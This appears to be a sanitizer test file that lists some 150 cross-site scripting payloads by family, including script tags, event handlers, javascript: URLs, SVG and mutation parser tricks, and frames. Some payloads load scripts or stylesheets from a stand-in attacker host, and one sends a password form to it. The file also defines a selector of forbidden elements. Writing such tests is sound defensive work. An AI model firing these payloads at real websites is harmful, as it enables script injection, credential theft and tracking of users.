/**
 * Texts that try to run code, to load something, or to lead the reader elsewhere. Each that could run calls `pwned()`. They were written for these
 * tests, and are grouped by family.
 */
const js = 'javascript:pwned()';

const scripts = [
  '<script>pwned()</script>',
  '<ScRiPt>pwned()</sCrIpT>',
  '<script src="https://evil.example/x.js"></script>',
  '<script type="module">pwned()</script>',
  '<script\n>pwned()</script\n>',
  '<script/anything>pwned()</script>',
  '<scr<script>ipt>pwned()</scr</script>ipt>',
  '<p>before<script>pwned()</script>after</p>',
  '<script>pwned()',
  '<<script>pwned()//<</script>',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>"></noscript>',
  '<template><script>pwned()</script></template>',
];

const handlers = [
  '<img src=x onerror=pwned()>',
  '<img src="x" OnErRoR="pwned()">',
  '<img src=x onerror\n=\npwned()>',
  '<img/src=x/onerror=pwned()>',
  '<img src=x onerror="&#112;wned()">',
  '<image src=x onerror=pwned()>',
  '<p onclick="pwned()">clic</p>',
  '<p onmouseover=pwned()>survol</p>',
  '<div onpointerenter="pwned()">x</div>',
  '<p onfocus=pwned() tabindex=1 autofocus>x</p>',
  '<a href="https://www.exemple.fr" onclick="pwned()">lien</a>',
  '<strong onanimationstart=pwned() style="animation:a 1s">gras</strong>',
  '<body onload=pwned()>',
  '<details open ontoggle=pwned()><summary>x</summary></details>',
  '<input autofocus onfocus=pwned()>',
  '<select autofocus onfocus=pwned()><option>x</select>',
  '<textarea autofocus onfocus=pwned()>x</textarea>',
  '<video src=x onerror=pwned()></video>',
  '<video><source onerror=pwned() src=x></video>',
  '<audio src=x onerror=pwned()></audio>',
  '<marquee onstart=pwned()>x</marquee>',
  '<table onscroll=pwned()><tr><td onclick=pwned()>x</td></tr></table>',
  '<p style="content-visibility:auto" oncontentvisibilityautostatechange=pwned()>x</p>',
  '<li onbeforetoggle=pwned() popover>x</li>',
];

const addresses = [
  `<a href="${js}">x</a>`,
  '<a href="JaVaScRiPt:pwned()">x</a>',
  '<a href=" javascript:pwned()">x</a>',
  '<a href="\tjavascript:pwned()">x</a>',
  '<a href="java\nscript:pwned()">x</a>',
  '<a href="java\tscript:pwned()">x</a>',
  '<a href="java\u0000script:pwned()">x</a>',
  '<a href="\u0001javascript:pwned()">x</a>',
  '<a href="&#106;avascript:pwned()">x</a>',
  '<a href="&#x6A;avascript:pwned()">x</a>',
  '<a href="&#0000106avascript:pwned()">x</a>',
  '<a href="javascript&colon;pwned()">x</a>',
  '<a href="javascript&#58;pwned()">x</a>',
  '<a href="java&Tab;script:pwned()">x</a>',
  '<a href="java&NewLine;script:pwned()">x</a>',
  '<a href="javascript:// https://www.exemple.fr/%0Apwned()">x</a>',
  '<a href="data:text/html,<script>pwned()</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+">x</a>',
  '<a href="vbscript:pwned()">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<a href="filesystem:https://evil.example/x">x</a>',
  '<a href="view-source:https://evil.example">x</a>',
  '<a href="feed:javascript:pwned()">x</a>',
  '<a href="intent://x#Intent;scheme=https;end">x</a>',
  '<a xlink:href="javascript:pwned()">x</a>',
  '<a href="https://www.exemple.fr" ping="https://evil.example">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="/admin/users/delete?selected=1">x</a>',
  '<a download href="data:,x">x</a>',
];

const drawings = [
  '<svg onload=pwned()></svg>',
  '<svg/onload=pwned()>',
  '<svg><script>pwned()</script></svg>',
  '<svg><script xlink:href="data:,pwned()"></script></svg>',
  '<svg><a xlink:href="javascript:pwned()"><text x="0" y="20">x</text></a></svg>',
  '<svg><animate onbegin=pwned() attributeName=x dur=1s></svg>',
  '<svg><set attributeName="href" to="javascript:pwned()"/></svg>',
  '<svg><a><animate attributeName=href values=javascript:pwned() /><text>x</text></a></svg>',
  '<svg><foreignObject><iframe src="javascript:pwned()"></iframe></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=pwned() />#x"/></svg>',
  '<svg><image href="x" onerror="pwned()"/></svg>',
  '<svg><style>@import "https://evil.example/x.css";</style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=pwned()>">',
  '<math href="javascript:pwned()">x</math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:pwned()">x</maction></math>',
  '<math><annotation-xml encoding="text/html"><script>pwned()</script></annotation-xml></math>',
];

const mutations = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=pwned() src>">',
  '<svg><p><style><g title="</style><img src=x onerror=pwned()>">',
  '<noembed><p title="</noembed><img src=x onerror=pwned()>">',
  '<noframes><p title="</noframes><img src=x onerror=pwned()>">',
  '<xmp><p title="</xmp><svg/onload=pwned()>">',
  '<textarea><p title="</textarea><img src=x onerror=pwned()>">',
  '<title><p title="</title><img src=x onerror=pwned()>">',
  '<!--><img src=x onerror=pwned()>-->',
  '<!-- --!><img src=x onerror=pwned()> -->',
  '<![CDATA[><img src=x onerror=pwned()>]]>',
  '<?xml version="1.0"?><img src=x onerror=pwned()>',
  '<p title="`><img src=x onerror=pwned()>`">x</p>',
  '<table><tr><td><table><script>pwned()</script></table></td></tr></table>',
  '<select><template><img src=x onerror=pwned()></template></select>',
  '<div><template shadowrootmode=open><img src=x onerror=pwned()></template></div>',
  '<p>&lt;script&gt;pwned()&lt;/script&gt;</p>',
];

const frames = [
  '<iframe src="javascript:pwned()"></iframe>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<iframe srcdoc="&lt;script&gt;parent.pwned()&lt;/script&gt;"></iframe>',
  '<iframe src="https://evil.example"></iframe>',
  '<frameset><frame src="javascript:pwned()"></frameset>',
  '<object data="javascript:pwned()"></object>',
  '<object data="data:text/html,<script>parent.pwned()</script>"></object>',
  '<embed src="javascript:pwned()">',
  '<applet code="x"></applet>',
  '<portal src="https://evil.example"></portal>',
];

const pageWide = [
  '<form action="javascript:pwned()"><button>x</button></form>',
  '<form id=f></form><button form=f formaction="javascript:pwned()">x</button>',
  '<form action="https://evil.example"><input name=password type=password><input type=submit></form>',
  '<isindex action="javascript:pwned()" type=image>',
  '<base href="https://evil.example/">',
  '<base target="_parent">',
  '<meta http-equiv="refresh" content="0;url=javascript:pwned()">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<meta http-equiv="Content-Security-Policy" content="default-src *">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<link rel="prefetch" href="https://evil.example/">',
  '<link rel="import" href="data:text/html,<script>pwned()</script>">',
  '<dialog open>x<form method=dialog><button>y</button></form></dialog>',
];

const clobbering = [
  '<p id="root">x</p>',
  '<a id="config" href="https://evil.example">x</a>',
  '<form name="body"><input name="parentNode"></form>',
  '<img name="getElementById">',
  '<p class="MuiDialog-root" slot="x" is="x-x">x</p>',
  '<p contenteditable="true" data-react="x" aria-hidden="true" role="alert">x</p>',
];

const fetches = [
  '<img src="https://evil.example/pixel.png">',
  '<img srcset="https://evil.example/pixel.png 1x">',
  '<picture><source srcset="https://evil.example/pixel.png"><img src=x></picture>',
  '<img src="data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=pwned()/>">',
  '<p background="https://evil.example/pixel.png">x</p>',
  '<table background="javascript:pwned()"><tr><td>x</td></tr></table>',
  '<video poster="https://evil.example/pixel.png"></video>',
  '<audio src="https://evil.example/x.mp3" autoplay></audio>',
  '<input type="image" src="https://evil.example/pixel.png">',
  '<bgsound src="javascript:pwned()">',
];

const styles = [
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>body{background:url("https://evil.example/pixel.png")}</style>',
  '<p style="background:url(https://evil.example/pixel.png)">x</p>',
  '<p style="background:url(javascript:pwned())">x</p>',
  '<p style="width:expression(pwned())">x</p>',
  '<p style="position:fixed;inset:0;z-index:9999">Saisissez votre mot de passe</p>',
  '<p style="-moz-binding:url(https://evil.example/x.xml)">x</p>',
  '<div style="behavior:url(https://evil.example/x.htc)">x</div>',
];

export const XSS_VECTORS: readonly string[] = [scripts, handlers, addresses, drawings, mutations, frames, pageWide, clobbering, fetches, styles].flat();

/** The elements that no text may produce when rendered. The check looks at elements, not at the text. */
export const FORBIDDEN = [
  'script, style, template, noscript, iframe, frame, frameset, object, embed, applet, portal, svg, math, img, image, picture, source, video, audio, bgsound',
  'form, input, button, select, textarea, dialog, details, base, meta, link, title, marquee, isindex',
  '[style], [class], [id], [name], [src], [srcset], [poster], [background], [ping], [download], [slot], [is]:not([is=""]), [tabindex], [autofocus], [contenteditable]',
].join(', ');
